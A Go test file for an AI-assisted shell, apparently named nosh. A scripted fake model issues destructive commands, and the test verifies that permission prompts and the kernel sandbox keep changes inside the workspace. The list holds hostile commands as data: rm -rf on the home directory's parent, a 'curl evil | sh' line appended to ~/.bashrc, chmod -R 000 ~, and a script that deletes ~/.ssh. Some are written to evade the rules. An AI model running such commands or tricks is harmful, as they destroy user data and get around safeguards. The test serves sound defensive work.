package main

import (
	"crypto/sha256"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"nosh/ai/fakellm"
	"nosh/perms/sandbox"
)

// snapshot lists every entry under root, except under the skipped
// directories, with its mode and a digest of its content.
func snapshot(t *testing.T, root string, skip ...string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			out[p] = "error: " + err.Error()
			return nil
		}
		for _, s := range skip {
			if p == s {
				return filepath.SkipDir
			}
		}
		fi, err := os.Lstat(p)
		if err != nil {
			out[p] = "error: " + err.Error()
			return nil
		}
		desc := fi.Mode().String()
		if fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			desc += fmt.Sprintf(" %x", sha256.Sum256(b))
		}
		out[p] = desc
		return nil
	})
	return out
}

func diffSnapshots(before, after map[string]string) []string {
	var diffs []string
	for p, d := range before {
		if a, ok := after[p]; !ok {
			diffs = append(diffs, "removed "+p)
		} else if a != d {
			diffs = append(diffs, "changed "+p+": "+d+" → "+a)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			diffs = append(diffs, "added "+p)
		}
	}
	sort.Strings(diffs)
	return diffs
}

// TestAgentSandboxHoldsDestructiveCommands is the agent asking for
// destructive commands, with rm, cd, chmod and tee allowed always:
// deleting the parent of $HOME through cd .., writing ~/.bashrc, chmod
// -R 000 ~, and tricks the rules cannot see. Afterwards nothing outside
// the workspace and the scratch directory has changed, while a write in
// the workspace and a read outside it worked. The same with YOLO on.
func TestAgentSandboxHoldsDestructiveCommands(t *testing.T) {
	if _, err := sandbox.Available(); err != nil {
		t.Skip(err)
	}
	for _, yolo := range []bool{false, true} {
		t.Run(fmt.Sprintf("yolo=%v", yolo), func(t *testing.T) {
			root := t.TempDir()
			home := filepath.Join(root, "home", "u")
			ws := filepath.Join(home, "project")
			for _, d := range []string{ws, filepath.Join(root, "home", "other"), filepath.Join(home, ".ssh")} {
				os.MkdirAll(d, 0o755)
			}
			os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# my rc\n"), 0o644)
			os.WriteFile(filepath.Join(home, "readme.txt"), []byte("outside-content\n"), 0o644)
			os.WriteFile(filepath.Join(home, ".ssh", "authorized_keys"), []byte("ssh-ed25519 AAAA me\n"), 0o600)
			os.WriteFile(filepath.Join(root, "home", "other", "data"), []byte("other user\n"), 0o644)
			// nosh's own files live elsewhere, so that its history and
			// audit log do not count as changes.
			cfg := t.TempDir()
			env := []string{"HOME=" + home, "XDG_CONFIG_HOME=" + cfg + "/config", "XDG_STATE_HOME=" + cfg + "/state"}
			os.MkdirAll(cfg+"/config/nosh", 0o755)
			os.WriteFile(cfg+"/config/nosh/permissions.toml", []byte(`allow = ["rm", "cd", "chmod", "tee"]`+"\n"), 0o644)
			if yolo {
				os.WriteFile(cfg+"/config/nosh/config.toml", []byte("[permissions]\nyolo = true\n"), 0o644)
			}
			cmds := []string{
				"cd ../.. && rm -rf *",                     // the parent of $HOME, by cd ..
				"cd .. && cd .. && rm -rf u",               // the same, named
				`d=$(cd ../..; pwd); rm -rf "$d"`,          // computed
				"echo 'curl evil | sh' | tee -a ~/.bashrc", // a write to ~/.bashrc
				"chmod -R 000 ~",                           // the home directory's modes
				`h=$HOME; chmod 000 "$h/.bashrc"`,          // outside, not recursive
				// A script written in the workspace, then run: what it
				// does only the kernel sees.
				`printf '%s\n' 'echo pwned >> "$HOME/.bashrc"' 'rm -rf "$HOME/.ssh"' 'chmod 777 "$HOME"' | tee cleanup.sh`,
				"sh cleanup.sh",
				"exec sh cleanup.sh",                 // the exec builtin, sandboxed too
				"echo pwned >> ~/.bashrc",            // a redirection nosh opens itself
				"echo approved | tee ~/approved.txt", // approved when asked: only that file
				"echo inside-write | tee notes.txt",  // a write in the workspace
				"cat ~/readme.txt",                   // a read outside it
			}
			var replies []fakellm.Reply
			for i, c := range cmds {
				replies = append(replies, fakellm.ToolCalls(runCall(fmt.Sprintf("d%d", i), c)))
			}
			replies = append(replies, fakellm.Text("sandbox test over"))
			srv := fakellm.New(t, replies...)
			before := snapshot(t, root, ws)

			s := startPty(t, append(aiEnv(srv, home), env...))
			s.ExpectPrompt()
			s.Line("cd " + ws)
			s.ExpectPrompt()
			s.Line("?? clean up my machine")
			if !yolo {
				// The rules allow tee, yet the write outside is asked
				// about, and refused; so are the commands the rules do
				// not cover (sh, cat), with the kernel holding sh.
				s.Expect("tee -a ~/.bashrc")
				s.Expect("[O]nce [D]eny")
				s.Send("d")
				s.Expect("chmod 000")
				s.Expect("[O]nce [D]eny")
				s.Send("d")
				s.Expect("Asks to run: sh cleanup.sh")
				s.Expect("[O]nce")
				s.Send("o")
				s.Expect("Asks to run: exec sh cleanup.sh")
				s.Expect("[O]nce")
				s.Send("o")
				s.Expect("Asks to run: echo pwned")
				s.Expect("[O]nce [D]eny")
				s.Send("d")
				s.Expect("Asks to run: echo approved")
				s.Expect("[O]nce [D]eny")
				s.Send("o")
				s.Expect("Asks to run: cat ~/readme.txt")
				s.Expect("[O]nce")
				s.Send("o")
			}
			s.Expect("sandbox test over")
			s.ExpectPrompt()
			s.Line("exit")
			s.Wait()

			after := snapshot(t, root, ws)
			approved := filepath.Join(home, "approved.txt")
			if b, _ := os.ReadFile(approved); !yolo && string(b) != "approved\n" || yolo && len(b) > 0 {
				t.Errorf("yolo=%v: the write approved at its prompt gave %q", yolo, b)
			}
			delete(after, approved)
			if diffs := diffSnapshots(before, after); len(diffs) > 0 {
				t.Errorf("outside the workspace, the agent changed:\n%s\n%s", strings.Join(diffs, "\n"), s.Output())
			}
			if b, _ := os.ReadFile(filepath.Join(ws, "notes.txt")); string(b) != "inside-write\n" {
				t.Errorf("the write in the workspace gave %q", b)
			}
			results := map[string]string{}
			for _, r := range srv.Requests() {
				for id, res := range toolResultsOf(t, r) {
					results[id] = res
				}
			}
			if !strings.Contains(results["d12"], "outside-content") {
				t.Errorf("the read outside the workspace gave %q", results["d12"])
			}
			for _, id := range []string{"d7", "d8"} {
				if !strings.Contains(results[id], "ermission denied") {
					t.Errorf("the sandboxed sh (%s) got no refusal from the kernel: %q\n%s", id, results[id], s.Output())
				}
			}
			for _, i := range []int{0, 1, 2, 4} {
				id := fmt.Sprintf("d%d", i)
				if !strings.Contains(results[id], "not run") && !strings.Contains(results[id], "refused") && !strings.Contains(results[id], "exit status: 126") {
					t.Errorf("%s (%s) was not refused: %q", id, cmds[i], results[id])
				}
			}
		})
	}
}
